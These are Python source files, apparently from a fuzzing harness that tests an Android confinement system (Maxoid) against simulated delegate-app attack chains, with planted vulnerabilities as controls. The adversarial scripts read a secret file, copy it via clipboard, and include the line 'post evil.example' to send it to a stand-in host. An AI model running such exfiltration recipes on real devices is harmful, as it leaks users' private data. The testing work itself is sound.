tracks dropped when possible), then the schedule itself (coalescing
context switches that don't matter to the violation).

Randomized schedules explore broadly; *systematic perturbation* then
retries the last observed schedule with a foreign task spliced in at
evenly spaced points — the "what if the kernel preempted right here"
probe that catches windows random sampling misses.
"""

from __future__ import annotations

import hashlib
import json
import random
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.apps.adversarial import interpreter, launderer
from repro.fuzz.driver import (
    _chain_browser,
    _chain_clip_launder,
    _chain_interpreter,
    _chain_provider,
    _delegate,
)
from repro.fuzz.harness import FuzzWorld, RunResult, VICTIM_PACKAGE
from repro.fuzz.ops import (
    ArmFault,
    ClearVolatile,
    ClipPaste,
    CrashNow,
    DisarmFaults,
    DropLoot,
    Invoke,
    Op,
    ProviderInsert,
    ProviderQuery,
    ReadExternal,
    ReadSecret,
    Spawn,
    VolatileCommit,
    WriteExternal,
)
from repro.fuzz.driver import AnchorHalt
from repro.obs import OBS
from repro.obs.recorder import AnchorReached, BlackBox
from repro.sched import SCHED, schedule_bytes as _sched_bytes, schedule_digest

__all__ = [
    "InterleaveResult",
    "InterleaveSweepReport",
    "RaceCounterexample",
    "concurrent_scenario_from_seed",
    "interleave_sweep",
    "replay_to_anchor",
    "run_interleaved",
    "shrink_schedule",
    "shrink_tracks",
]

_INTERP = interpreter.PACKAGE
_MULE = launderer.PACKAGE

#: name -> ordered op list. One track = one scheduled task.
Tracks = Dict[str, List[Op]]

#: Ops the shrinker drops in its first pass (mirrors driver.shrink).
_FAULT_OPS = (ArmFault, DisarmFaults, CrashNow)


# ---------------------------------------------------------------------------
# Concurrent scenario generation
# ---------------------------------------------------------------------------


def _track_guard_race(rng: random.Random) -> List[Op]:
    """A delegate hammers the clip mule's exported drop provider with the
    secret. Dead against an intact binder guard from *every* schedule;
    with the planted ``binder-guard-race`` only an interleaving that
    lands a drop inside a registry-rebuild window gets through."""
    delegate = _delegate(_INTERP)
    ops: List[Op] = [Spawn(_INTERP, VICTIM_PACKAGE), ReadSecret(delegate)]
    for n in range(rng.randrange(8, 13)):
        ops.append(DropLoot(delegate, f"drop-{n}"))
    return ops


_ATTACK_TRACKS: Tuple[Callable[[random.Random], List[Op]], ...] = (
    _track_guard_race,
    _chain_clip_launder,
    _chain_interpreter,
    _chain_browser,
    _chain_provider,
)


def _noise_op(rng: random.Random, actors: Sequence[str]) -> Op:
    """Crash-free concurrent noise (crashes get their own dedicated
    scenarios; random reboots in every track would drown the sweep)."""
    actor = rng.choice(tuple(actors))
    kind = rng.randrange(6)
    if kind == 0:
        return ProviderInsert(actor)
    if kind == 1:
        return ProviderQuery(actor)
    if kind == 2:
        return ReadExternal(actor, f"loot-{rng.randrange(4)}")
    if kind == 3:
        return ClipPaste(actor)
    if kind == 4:
        return WriteExternal(actor, f"note-{rng.randrange(4)}")
    return VolatileCommit(VICTIM_PACKAGE)


def concurrent_scenario_from_seed(seed: int, noise: int = 2) -> Tracks:
    """Deterministically expand a seed into concurrent tracks.

    Track 0 is the victim's activity: Activity-Manager-routed launches
    (which churn the binder guard's instance registry — the bookkeeping
    every TOCTOU in that layer races against) and volatile commits.
    Tracks 1..k are attack chains from the adversarial corpus, each with
    ``noise`` extra reachable ops spliced in."""
    rng = random.Random(seed)
    tracks: Tracks = {}
    victim_ops: List[Op] = [Invoke(_MULE)]
    for _ in range(rng.randrange(3, 6)):
        victim_ops.append(
            rng.choice(
                (
                    Invoke(_MULE),
                    VolatileCommit(VICTIM_PACKAGE),
                    Invoke(_MULE),
                    ClearVolatile(VICTIM_PACKAGE),
                )
            )
        )
    tracks["t0:victim"] = victim_ops
    for index, chain in enumerate(rng.sample(_ATTACK_TRACKS, k=2), start=1):
        ops = chain(rng)
        actors = [op.key for op in ops if isinstance(op, Spawn)] or [VICTIM_PACKAGE]
        for _ in range(noise):
            ops.insert(rng.randrange(1, len(ops) + 1), _noise_op(rng, actors))
        name = chain.__name__.lstrip("_")
        for prefix in ("chain_", "track_"):
            if name.startswith(prefix):
                name = name[len(prefix):]
        tracks[f"t{index}:{name}"] = ops
    return tracks


# ---------------------------------------------------------------------------
# Running tracks under the reactor
# ---------------------------------------------------------------------------


@dataclass
class InterleaveResult:
    """One scheduled run: the world's results plus the schedule that
    produced them."""

    run: RunResult
    decisions: List[Tuple[int, str, str]]
    divergences: int
    sched_seed: Optional[int]
    #: closed spans in close order, as counter-free (name, ctx) pairs.
    spans: List[Tuple[str, Optional[str]]] = field(default_factory=list)
    race_candidates: List[Tuple[str, str, str]] = field(default_factory=list)
    #: The run's flight recording, when ``run_interleaved(record=True)``.
    blackbox: Optional[BlackBox] = None

    @property
    def violations(self):
        return self.run.violations

    def schedule(self) -> List[str]:
        return [task for _step, task, _point in self.decisions]

    def schedule_bytes(self) -> bytes:
        return _sched_bytes(self.decisions)

    def digest(self) -> str:
        return schedule_digest(self.decisions)

    def fingerprint(self) -> str:
        """Counter-free digest over (outcomes, violations, fault
        schedule, interleaving schedule): equal across exact replays."""
        digest = hashlib.sha256()
        digest.update(self.run.fingerprint().encode())
        digest.update(self.schedule_bytes())
        return digest.hexdigest()


def run_interleaved(
    tracks: Tracks,
    *,
    sched_seed: Optional[int] = 0,
    schedule: Optional[Sequence[str]] = None,
    planted: Optional[str] = None,
    maxoid: bool = True,
    record: bool = False,
) -> InterleaveResult:
    """Run every track concurrently under one deterministic schedule.

    ``sched_seed`` drives the interleaving; passing ``schedule`` (a
    recorded task-name sequence) replays it instead, with deterministic
    fallback on divergence — the replay half of the ``(seed, schedule)``
    reproducibility contract. ``record=True`` arms the flight recorder
    for the run and seals a ``counterexample`` dump into ``.blackbox``."""
    world = FuzzWorld(planted=planted, maxoid=maxoid, record=record)
    world.start()
    spans: List[Tuple[str, Optional[str]]] = []

    def _span_listener(span) -> None:
        spans.append((span.name, span.attrs.get("ctx")))

    OBS.tracer.add_listener(_span_listener)
    try:

        def _track_fn(ops: List[Op]):
            def fn() -> None:
                for op in ops:
                    SCHED.yield_point("op.boundary")
                    world.step(op)

            return fn

        named = [(name, _track_fn(ops)) for name, ops in sorted(tracks.items())]
        srun = SCHED.run(named, seed=sched_seed, replay=schedule, reraise=False)
        for error in srun.errors.values():
            # world.step absorbs every simulation-level error; anything
            # escaping a track is a harness bug and must surface.
            raise error
        result = world.result()
        box = world.seal_recording("counterexample") if record else None
    finally:
        OBS.tracer.remove_listener(_span_listener)
        world.close()
    return InterleaveResult(
        run=result,
        decisions=srun.decisions,
        divergences=srun.divergences,
        sched_seed=sched_seed if schedule is None else None,
        spans=spans,
        race_candidates=srun.race_candidates,
        blackbox=box,
    )


# ---------------------------------------------------------------------------
# Shrinking: first the op content, then the schedule
# ---------------------------------------------------------------------------


def _materialize(tracks: Tracks, kept: Dict[str, List[int]]) -> Tracks:
    return {
        name: [tracks[name][i] for i in kept[name]]
        for name in tracks
        if kept[name]
    }


def shrink_tracks(
    tracks: Tracks,
    *,
    sched_seed: Optional[int],
    schedule: Optional[Sequence[str]],
    planted: Optional[str],
    maxoid: bool = True,
) -> Dict[str, List[int]]:
    """Greedy delta-debugging across all tracks' op slots.

    Trials re-run under the *recorded* schedule (replay + deterministic
    fallback), so the interleaving structure that produced the violation
    survives op removals as far as possible. Returns the kept indices
    per track (a dropped track keeps ``[]``)."""

    def violates(kept: Dict[str, List[int]]) -> bool:
        minimal = _materialize(tracks, kept)
        if not minimal:
            return False
        result = run_interleaved(
            minimal,
            sched_seed=sched_seed,
            schedule=schedule,
            planted=planted,
            maxoid=maxoid,
        )
        return bool(result.violations)

    kept = {name: list(range(len(ops))) for name, ops in tracks.items()}
    # Pass 0: fault/crash ops first — they perturb everything downstream.
    for name in sorted(tracks):
        fault_free = [
            i for i in kept[name] if not isinstance(tracks[name][i], _FAULT_OPS)
        ]
        if fault_free != kept[name]:
            trial = {**kept, name: fault_free}
            if violates(trial):
                kept = trial
    # Pass 1: whole tracks.
    for name in sorted(tracks):
        if not kept[name]:
            continue
        trial = {**kept, name: []}
        if violates(trial):
            kept = trial
    # Pass 2: single ops, to fixpoint.
    changed = True
    while changed:
        changed = False
        for name in sorted(tracks):
            for index in list(kept[name]):
                trial = {**kept, name: [i for i in kept[name] if i != index]}
                if violates(trial):
                    kept = trial
                    changed = True
    return kept


def shrink_schedule(
    tracks: Tracks,
    base: InterleaveResult,
    *,
    sched_seed: Optional[int],
    planted: Optional[str],
    maxoid: bool = True,
    max_trials: int = 60,
) -> InterleaveResult:
    """Minimize context switches: repeatedly try extending the previous
    task's run by one decision (coalescing a switch) and keep the
    perturbed schedule whenever the violation survives with fewer
    switches. Bounded by ``max_trials`` full re-runs."""

    def switches(names: Sequence[str]) -> int:
        return sum(1 for i in range(1, len(names)) if names[i] != names[i - 1])

    best = base
    trials = 0
    improved = True
    while improved and trials < max_trials:
        improved = False
        names = best.schedule()
        for i in range(1, len(names)):
            if names[i] == names[i - 1]:
                continue
            candidate = names[:i] + [names[i - 1]] + names[i + 1 :]
            trials += 1
            result = run_interleaved(
                tracks,
                sched_seed=sched_seed,
                schedule=candidate,
                planted=planted,
                maxoid=maxoid,
            )
            if result.violations and switches(result.schedule()) < switches(names):
                best = result
                improved = True
                break
            if trials >= max_trials:
                break
    return best


# ---------------------------------------------------------------------------
# Counterexamples and the sweep driver
# ---------------------------------------------------------------------------


@dataclass
class RaceCounterexample:
    """A shrunk interleaving violation, replayable byte-identically.

    The identity of the finding is ``(scenario_seed, noise, kept,
    schedule)``: re-deriving the tracks from the seed, slicing the kept
    slots, and replaying the recorded schedule reproduces the identical
    decision list, digest, and fingerprint."""

    scenario_seed: Optional[int]
    noise: int
    sched_seed: Optional[int]
    planted: Optional[str]
    maxoid: bool
    kept: Dict[str, Tuple[int, ...]]
    tracks: Dict[str, Tuple[Op, ...]]
    schedule: Tuple[str, ...]
    decisions: Tuple[Tuple[int, str, str], ...]
    result: RunResult
    #: The flight recording of the final minimal run under the shrunk
    #: schedule — the replay-to-anchor postmortem's input.
    blackbox: Optional[BlackBox] = None

    @property
    def digest(self) -> str:
        return schedule_digest(self.decisions)

    @property
    def fingerprint(self) -> str:
        digest = hashlib.sha256()
        digest.update(self.result.fingerprint().encode())
        digest.update(_sched_bytes(self.decisions))
        return digest.hexdigest()

    def replay(self) -> InterleaveResult:
        """Re-run the minimal tracks under the recorded schedule; the
        caller asserts digest + fingerprint equality."""
        tracks = {name: list(ops) for name, ops in self.tracks.items()}
        return run_interleaved(
            tracks,
            sched_seed=self.sched_seed,
            schedule=list(self.schedule),
            planted=self.planted,
            maxoid=self.maxoid,
        )

    def render(self) -> str:
        lines = [
            f"race counterexample: scenario_seed={self.scenario_seed} "
            f"sched_seed={self.sched_seed} planted={self.planted} "
            f"maxoid={self.maxoid}",
            f"schedule digest={self.digest[:16]} "
            f"fingerprint={self.fingerprint[:16]}",
        ]
        for name in sorted(self.tracks):
            lines.append(f"track {name} ({len(self.tracks[name])} ops):")
            for step, op in enumerate(self.tracks[name], 1):
                lines.append(f"  {step}. {op.render()}")
        lines.append(f"interleaving ({len(self.decisions)} decisions):")
        for step, task, point in self.decisions:
            lines.append(f"  {step:4d} {task} @ {point}")
        lines.append("violations:")
        for violation in self.result.violations:
            lines.append("  " + violation.render().replace("\n", "\n  "))
        return "\n".join(lines)

    def to_dict(self) -> dict:
        return {
            "scenario_seed": self.scenario_seed,
            "noise": self.noise,
            "sched_seed": self.sched_seed,
            "planted": self.planted,
            "maxoid": self.maxoid,
            "kept": {name: list(slots) for name, slots in self.kept.items()},
            "tracks": {
                name: [op.render() for op in ops]
                for name, ops in self.tracks.items()
            },
            "schedule": list(self.schedule),
            "decisions": [list(decision) for decision in self.decisions],
            "schedule_digest": self.digest,
            "outcomes": [list(pair) for pair in self.result.outcomes],
            "violations": self.result.violation_renders(),
            "fingerprint": self.fingerprint,
            "blackbox": (
                None
                if self.blackbox is None
                else {
                    "anchor_seq": self.blackbox.anchor_seq,
                    "events": len(self.blackbox.events),
                    "events_digest": self.blackbox.events_digest(),
                }
            ),
        }


def replay_to_anchor(
    counterexample: RaceCounterexample, anchor_seq: Optional[int] = None
) -> AnchorHalt:
    """Replay a race counterexample under its recorded schedule with the
    recorder armed, halting at the anchor event.

    The anchor can be reached from a task thread (a span/fault/audit
    event) or from the reactor's own decision loop (a ``sched decision``
    event); both paths stop the scheduler and leave the world standing.
    Returns an :class:`~repro.fuzz.driver.AnchorHalt` — the caller
    inspects, then MUST ``halt.world.close()``."""
    if anchor_seq is None:
        if counterexample.blackbox is None:
            raise ValueError("race counterexample carries no flight recording")
        anchor_seq = counterexample.blackbox.anchor_seq
    tracks = {name: list(ops) for name, ops in counterexample.tracks.items()}
    world = FuzzWorld(
        planted=counterexample.planted,
        maxoid=counterexample.maxoid,
        record=True,
        halt_at=anchor_seq,
    )
    world.start()

    def _track_fn(ops: List[Op]):
        def fn() -> None:
            for op in ops:
                SCHED.yield_point("op.boundary")
                world.step(op)

        return fn

    named = [(name, _track_fn(ops)) for name, ops in sorted(tracks.items())]
    try:
        srun = SCHED.run(
            named,
            seed=counterexample.sched_seed,
            replay=list(counterexample.schedule),
            reraise=False,
        )
    except AnchorReached as reached:
        # The anchor was a scheduler decision: the recorder's tap raised
        # from the reactor loop itself.
        return AnchorHalt(world=world, event=reached.event, recorder=OBS.recorder)
    except BaseException:
        world.close()
        raise
    for error in srun.errors.values():
        if isinstance(error, AnchorReached):
            return AnchorHalt(world=world, event=error.event, recorder=OBS.recorder)
    for error in srun.errors.values():
        world.close()
        raise error
    world.close()
    raise RuntimeError(
        f"replay never reached anchor event #{anchor_seq} "
        f"(recorded {OBS.recorder.seq} events) — recording and tracks disagree"
    )


@dataclass
class InterleaveSweepReport:
    """What the sweep covered and (maybe) found."""

    examples: int
    counterexample: Optional[RaceCounterexample] = None

    @property
    def found(self) -> bool:
        return self.counterexample is not None


def _package(
    scenario_seed: Optional[int],
    noise: int,
    tracks: Tracks,
    found: InterleaveResult,
    sched_seed: Optional[int],
    planted: Optional[str],
    maxoid: bool,
    artifact_path: Optional[str],
    examples: int,
    blackbox_path: Optional[str] = None,
) -> InterleaveSweepReport:
    """Shrink a violating run (ops, then schedule) into a counterexample."""
    recorded = found.schedule()
    kept = shrink_tracks(
        tracks,
        sched_seed=sched_seed,
        schedule=recorded,
        planted=planted,
        maxoid=maxoid,
    )
    minimal = _materialize(tracks, kept)
    result = run_interleaved(
        minimal,
        sched_seed=sched_seed,
        schedule=recorded,
        planted=planted,
        maxoid=maxoid,
    )
    result = shrink_schedule(
        minimal, result, sched_seed=sched_seed, planted=planted, maxoid=maxoid
    )
    # Final pass: replay the shrunk schedule with the flight recorder
    # armed, so the counterexample ships a black-box recording whose
    # anchor the postmortem can replay to.
    recorded = run_interleaved(
        minimal,
        sched_seed=sched_seed,
        schedule=result.schedule(),
        planted=planted,
        maxoid=maxoid,
        record=True,
    )
    counterexample = RaceCounterexample(
        scenario_seed=scenario_seed,
        noise=noise,
        sched_seed=sched_seed,
        planted=planted,
        maxoid=maxoid,
        kept={name: tuple(slots) for name, slots in kept.items()},
        tracks={name: tuple(ops) for name, ops in minimal.items()},
        schedule=tuple(recorded.schedule()),
        decisions=tuple(recorded.decisions),
        result=recorded.run,
        blackbox=recorded.blackbox,
    )
    if artifact_path is not None:
        with open(artifact_path, "w", encoding="utf-8") as sink:
            json.dump(counterexample.to_dict(), sink, indent=2)
    if blackbox_path is not None and counterexample.blackbox is not None:
        from repro.obs.artifacts import write_blackbox

        write_blackbox(blackbox_path, counterexample.blackbox)
    return InterleaveSweepReport(examples=examples, counterexample=counterexample)


def interleave_sweep(
    n_scenarios: int = 6,
    schedules_per_scenario: int = 4,
    base_seed: int = 0,
    planted: Optional[str] = None,
    maxoid: bool = True,
    noise: int = 2,
    perturb: int = 3,
    artifact_path: Optional[str] = None,
    blackbox_path: Optional[str] = None,
) -> InterleaveSweepReport:
    """Drive seeded concurrent scenarios through randomized and
    systematically-perturbed schedules; shrink and report the first
    S1-S4 violation. ``artifact_path`` (used by the CI interleave lane)
    receives the counterexample as JSON when one is found;
    ``blackbox_path`` receives its flight recording as JSONL."""
    examples = 0
    for scenario_index in range(n_scenarios):
        scenario_seed = base_seed + scenario_index
        tracks = concurrent_scenario_from_seed(scenario_seed, noise=noise)
        last: Optional[Tuple[int, InterleaveResult]] = None
        for schedule_index in range(schedules_per_scenario):
            sched_seed = 1000 * scenario_seed + schedule_index
            examples += 1
            result = run_interleaved(
                tracks, sched_seed=sched_seed, planted=planted, maxoid=maxoid
            )
            last = (sched_seed, result)
            if result.violations:
                return _package(
                    scenario_seed, noise, tracks, result, sched_seed,
                    planted, maxoid, artifact_path, examples,
                    blackbox_path=blackbox_path,
                )
        # Systematic perturbation: splice a foreign task into the last
        # observed schedule at evenly spaced points — forced preemptions
        # where the random sampler happened not to switch.
        assert last is not None
        sched_seed, observed = last
        names = observed.schedule()
        task_names = sorted(tracks)
        if len(task_names) > 1 and names:
            step_size = max(1, len(names) // (perturb + 1))
            positions = list(range(step_size, len(names), step_size))[:perturb]
            for position in positions:
                current = names[position]
                alternate = task_names[
                    (task_names.index(current) + 1) % len(task_names)
                ]
                candidate = names[:position] + [alternate] + names[position:]
                examples += 1
                result = run_interleaved(
                    tracks,
                    sched_seed=sched_seed,
                    schedule=candidate,
                    planted=planted,
                    maxoid=maxoid,
                )
                if result.violations:
                    return _package(
                        scenario_seed, noise, tracks, result, sched_seed,
                        planted, maxoid, artifact_path, examples,
                        blackbox_path=blackbox_path,
                    )
    return InterleaveSweepReport(examples=examples)
