"""The hypothesis stateful fuzzer: random delegation chains under S1-S4.

:class:`DelegationMachine` is a hypothesis ``RuleBasedStateMachine``
over one :class:`~repro.fuzz.harness.FuzzWorld` per example. Rules spawn
plain and delegate subjects into a bundle and drive the reachable op
pool against them — file reads and publishes, clipboard traffic,
provider rows, the adversarial apps' own leak recipes, mid-sequence
seeded faults and whole-device crashes. After **every** rule the
machine's invariant asserts the online monitor saw no S1-S4 violation;
on a stock Maxoid device any counterexample hypothesis shrinks to is a
genuine confinement bug (:class:`ConfinementViolated` carries the
violations with their full lineage chains).

Subclass with ``planted = "<name>"`` (see
:data:`~repro.fuzz.harness.PLANTED_VULNS`) to hand the machine a world
with one enforcement point disabled — the positive control proving the
invariant can actually fail.
"""

from __future__ import annotations

from typing import Optional

from hypothesis import strategies as st
from hypothesis.stateful import (
    Bundle,
    RuleBasedStateMachine,
    initialize,
    invariant,
    multiple,
    rule,
)

from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
from repro.fuzz.harness import FuzzWorld, SECRET_PATH, VICTIM_PACKAGE
from repro.fuzz.ops import (
    ArmFault,
    BrowseFile,
    ClipCopy,
    ClipPaste,
    CrashNow,
    DisarmFaults,
    IngestDocument,
    ProviderFetch,
    ProviderInsert,
    ProviderQuery,
    ReadExternal,
    ReadSecret,
    RunScript,
    Spawn,
    WriteExternal,
)

__all__ = ["ConfinementViolated", "DelegationMachine"]

_ATTACKERS = (
    interpreter.PACKAGE,
    exfil_browser.PACKAGE,
    leaky_provider.PACKAGE,
    launderer.PACKAGE,
)

_names = st.sampled_from(["a", "b", "c", "d"])


class ConfinementViolated(AssertionError):
    """A fuzzed op sequence broke S1-S4; message carries the lineage."""


class DelegationMachine(RuleBasedStateMachine):
    """Random op sequences over random delegation topologies."""

    #: Set to a PLANTED_VULNS key in a subclass for the positive control.
    planted: Optional[str] = None
    maxoid: bool = True

    actors = Bundle("actors")

    def __init__(self) -> None:
        super().__init__()
        self.world = FuzzWorld(planted=self.planted, maxoid=self.maxoid)
        self.world.start()

    def teardown(self) -> None:
        self.world.close()

    # -- topology rules --------------------------------------------------

    @initialize(target=actors)
    def seed_topology(self) -> "multiple":
        """Every example starts from the interesting base topology: the
        victim, one delegate of it, and one plain attacker — so rules
        spend the step budget on op interleavings, not on re-deriving
        the same three spawns."""
        delegate = Spawn(interpreter.PACKAGE, VICTIM_PACKAGE)
        mule = Spawn(launderer.PACKAGE)
        for op in (Spawn(VICTIM_PACKAGE), delegate, mule):
            self.world.step(op)
        return multiple(VICTIM_PACKAGE, delegate.key, mule.key)

    @rule(target=actors)
    def spawn_victim(self) -> str:
        self.world.step(Spawn(VICTIM_PACKAGE))
        return VICTIM_PACKAGE

    @rule(target=actors, package=st.sampled_from(_ATTACKERS))
    def spawn_attacker(self, package: str) -> str:
        op = Spawn(package)
        self.world.step(op)
        return op.key

    @rule(target=actors, package=st.sampled_from(_ATTACKERS))
    def spawn_delegate(self, package: str) -> str:
        op = Spawn(package, VICTIM_PACKAGE)
        self.world.step(op)
        return op.key

    # -- file and clipboard rules ---------------------------------------

    @rule(actor=actors)
    def read_secret(self, actor: str) -> None:
        self.world.step(ReadSecret(actor))

    @rule(actor=actors, name=_names)
    def publish(self, actor: str, name: str) -> None:
        self.world.step(WriteExternal(actor, name))

    @rule(actor=actors, name=_names)
    def read_shared(self, actor: str, name: str) -> None:
        self.world.step(ReadExternal(actor, name))

    @rule(actor=actors)
    def clip_copy(self, actor: str) -> None:
        self.world.step(ClipCopy(actor))

    @rule(actor=actors)
    def clip_paste(self, actor: str) -> None:
        self.world.step(ClipPaste(actor))

    # Composite rules mirroring what the attacker apps do as *one*
    # action — without them the machine must line up 5+ primitive rules
    # in exact order to complete a laundering chain, and the bounded CI
    # example budget would rarely witness the planted vulnerability.

    @rule(actor=actors)
    def copy_out_secret(self, actor: str) -> None:
        """A subject grabs the secret and copies it to its clipboard."""
        self.world.step(ReadSecret(actor))
        self.world.step(ClipCopy(actor))

    @rule(actor=actors, name=_names)
    def mule_poll(self, actor: str, name: str) -> None:
        """A subject pastes its clipboard and publishes the paste."""
        self.world.step(ClipPaste(actor))
        self.world.step(WriteExternal(actor, name))

    # -- adversarial-app rules ------------------------------------------

    @rule(actor=actors, name=_names)
    def interpreter_leak(self, actor: str, name: str) -> None:
        if actor.split("^")[0] != interpreter.PACKAGE:
            return
        script = f"read {SECRET_PATH}\nexfil {name}\nclip-copy"
        self.world.step(RunScript(actor, script))

    @rule(actor=actors)
    def browse_secret(self, actor: str) -> None:
        if actor.split("^")[0] != exfil_browser.PACKAGE:
            return
        self.world.step(BrowseFile(actor, SECRET_PATH))

    @rule(actor=actors)
    def ingest_secret(self, actor: str) -> None:
        if actor.split("^")[0] != leaky_provider.PACKAGE:
            return
        self.world.step(IngestDocument(actor, SECRET_PATH))

    @rule(actor=actors)
    def fetch_served(self, actor: str) -> None:
        self.world.step(ProviderFetch(actor, "secret.txt"))

    # -- provider-row rules ----------------------------------------------

    @rule(actor=actors)
    def dictionary_insert(self, actor: str) -> None:
        self.world.step(ProviderInsert(actor))

    @rule(actor=actors)
    def dictionary_query(self, actor: str) -> None:
        self.world.step(ProviderQuery(actor))

    # -- fault rules ------------------------------------------------------

    @rule(
        point=st.sampled_from(("vfs.write", "vol.commit", "aufs.copy_up")),
        nth=st.integers(min_value=1, max_value=3),
    )
    def arm_fault(self, point: str, nth: int) -> None:
        self.world.step(ArmFault(point, nth=nth))

    @rule()
    def disarm_faults(self) -> None:
        self.world.step(DisarmFaults())

    @rule()
    def crash_device(self) -> None:
        self.world.step(CrashNow())

    # -- the property -----------------------------------------------------

    @invariant()
    def confinement_holds(self) -> None:
        violations = self.world.violations
        if violations:
            raise ConfinementViolated(
                f"{len(violations)} violation(s) after "
                f"{len(self.world.outcomes)} ops:\n"
                + "\n".join(v.render() for v in violations)
            )
