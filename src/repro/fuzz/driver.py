"""The seeded scenario driver: generate, run, shrink, explain, replay.

``scenario_from_seed`` deterministically expands a seed integer into an
op sequence: one or two attack-chain templates (the adversarial corpus's
leak recipes, in order) interleaved with noise ops drawn from the
reachability-triaged pool. Running the same seed always produces the
same sequence, and :class:`~repro.fuzz.harness.RunResult.fingerprint`
is counter-free, so a violation found at seed ``s`` replays
byte-identically from ``s`` alone.

A found violation is shrunk with greedy delta-debugging (drop every op
whose removal preserves the violation — valid because ops on missing
actors are skips, so any subsequence is a legal scenario) and packaged
as a :class:`Counterexample`: the minimal rendered op listing, every
violation with its full ``provenance.explain()`` lineage chain, the
fault schedule, and the replay fingerprint.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Any, Callable, List, Optional, Sequence, Tuple

from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
from repro.fuzz.harness import FuzzWorld, RunResult, SECRET_PATH, VICTIM_PACKAGE
from repro.obs import OBS
from repro.obs.recorder import AnchorReached, BlackBox, Event
from repro.fuzz.ops import (
    ArmFault,
    BrowseFile,
    ClearVolatile,
    ClipCopy,
    ClipPaste,
    CrashNow,
    DisarmFaults,
    IngestDocument,
    Op,
    ProviderFetch,
    ProviderInsert,
    ProviderQuery,
    ReadExternal,
    ReadSecret,
    RunScript,
    Spawn,
    VolatileCommit,
    WriteExternal,
)

__all__ = [
    "AnchorHalt",
    "Counterexample",
    "SweepReport",
    "fuzz_sweep",
    "record_scenario",
    "replay_to_anchor",
    "run_scenario",
    "scenario_from_seed",
    "shrink",
]

_INTERP = interpreter.PACKAGE
_BROWSER = exfil_browser.PACKAGE
_LEAKY = leaky_provider.PACKAGE
_MULE = launderer.PACKAGE

#: Fault points a scenario may arm (all on the file/commit hot path).
_FAULT_POINTS = ("vfs.write", "vol.commit", "aufs.copy_up")


def _delegate(package: str) -> str:
    return f"{package}^{VICTIM_PACKAGE}"


def _chain_clip_launder(rng: random.Random) -> List[Op]:
    """Delegate reads the secret and copies it; a plain mule pastes and
    publishes. Dead on a Maxoid device (domain isolation), live when the
    clipboard-isolation vulnerability is planted."""
    delegate = _delegate(rng.choice((_INTERP, _BROWSER)))
    return [
        Spawn(delegate.split("^")[0], VICTIM_PACKAGE),
        ReadSecret(delegate),
        ClipCopy(delegate),
        Spawn(_MULE),
        ClipPaste(_MULE),
        WriteExternal(_MULE, f"loot-{rng.randrange(4)}"),
    ]


def _chain_interpreter(rng: random.Random) -> List[Op]:
    """The classic IFL interpreter chain, run as a delegate: read the
    secret, exfiltrate to external storage. Confined to Vol(victim)."""
    name = f"drop-{rng.randrange(4)}"
    return [
        Spawn(_INTERP, VICTIM_PACKAGE),
        RunScript(
            _delegate(_INTERP),
            f"read {SECRET_PATH}\nexfil {name}\npost evil.example {name}",
        ),
    ]


def _chain_browser(rng: random.Random) -> List[Op]:
    """The file:// exfil browser as a delegate: render, mirror, beacon."""
    return [
        Spawn(_BROWSER, VICTIM_PACKAGE),
        BrowseFile(_delegate(_BROWSER), SECRET_PATH),
    ]


def _chain_provider(rng: random.Random) -> List[Op]:
    """A delegate leaky-provider instance hoards the secret; a plain
    attacker tries to fetch it over the exported surface and publish."""
    return [
        Spawn(_LEAKY, VICTIM_PACKAGE),
        IngestDocument(_delegate(_LEAKY), SECRET_PATH),
        Spawn(_LEAKY),
        Spawn(_MULE),
        ProviderFetch(_MULE, "secret.txt"),
        WriteExternal(_MULE, f"served-{rng.randrange(4)}"),
    ]


_CHAINS: Tuple[Callable[[random.Random], List[Op]], ...] = (
    _chain_clip_launder,
    _chain_interpreter,
    _chain_browser,
    _chain_provider,
)


def _noise_op(rng: random.Random, actors: Sequence[str]) -> Op:
    """One op from the triage-reachable pool, no attack intent."""
    actor = rng.choice(tuple(actors))
    kind = rng.randrange(10)
    if kind == 0:
        return ProviderInsert(actor)
    if kind == 1:
        return ProviderQuery(actor)
    if kind == 2:
        return ReadExternal(actor, f"loot-{rng.randrange(4)}")
    if kind == 3:
        return ClipPaste(actor)
    if kind == 4:
        return WriteExternal(actor, f"note-{rng.randrange(4)}")
    if kind == 5:
        return VolatileCommit(VICTIM_PACKAGE)
    if kind == 6:
        return ClearVolatile(VICTIM_PACKAGE)
    if kind == 7:
        return ArmFault(rng.choice(_FAULT_POINTS), nth=rng.randrange(1, 4))
    if kind == 8:
        return DisarmFaults()
    return CrashNow()


def scenario_from_seed(seed: int, noise: int = 6) -> List[Op]:
    """Deterministically expand a seed into an op sequence: one or two
    attack chains with ``noise`` extra ops spliced between their steps."""
    rng = random.Random(seed)
    ops: List[Op] = [Spawn(VICTIM_PACKAGE)]
    for chain in rng.sample(_CHAINS, k=rng.choice((1, 2))):
        ops.extend(chain(rng))
    actors = [VICTIM_PACKAGE, _MULE] + [
        op.key for op in ops if isinstance(op, Spawn)
    ]
    for _ in range(noise):
        ops.insert(rng.randrange(1, len(ops) + 1), _noise_op(rng, actors))
    return ops


def run_scenario(
    ops: Sequence[Op], planted: Optional[str] = None, maxoid: bool = True
) -> RunResult:
    """Run one op sequence in a fresh world; returns its RunResult."""
    world = FuzzWorld(planted=planted, maxoid=maxoid)
    world.start()
    try:
        for op in ops:
            world.step(op)
        return world.result()
    finally:
        world.close()


def record_scenario(
    ops: Sequence[Op],
    planted: Optional[str] = None,
    maxoid: bool = True,
    capacity: int = 4096,
    **seal_extra: Any,
) -> Tuple[RunResult, BlackBox]:
    """Run one op sequence with the flight recorder armed; returns the
    RunResult plus the sealed ``counterexample`` black box.

    The dump is sealed *inside* the world's lifetime so its metadata
    carries the still-armed fault policies and consult schedule."""
    world = FuzzWorld(planted=planted, maxoid=maxoid, record=True, record_capacity=capacity)
    world.start()
    try:
        for op in ops:
            world.step(op)
        result = world.result()
        box = world.seal_recording("counterexample", **seal_extra)
        assert box is not None
        return result, box
    finally:
        world.close()


@dataclass
class AnchorHalt:
    """A replay halted at its anchor, with the world still standing.

    The caller inspects ``world.device`` (filesystems, audit log,
    provenance ledger) and the recorder's ring, then MUST call
    ``halt.world.close()`` to leave the global planes clean."""

    world: FuzzWorld
    event: Event
    recorder: Any  # the (still ring-bearing) FlightRecorder

    def events_digest(self) -> str:
        """Digest of the replayed event prefix — compared against the
        recorded dump's digest for the byte-identity acceptance check."""
        from repro.obs.recorder import events_digest

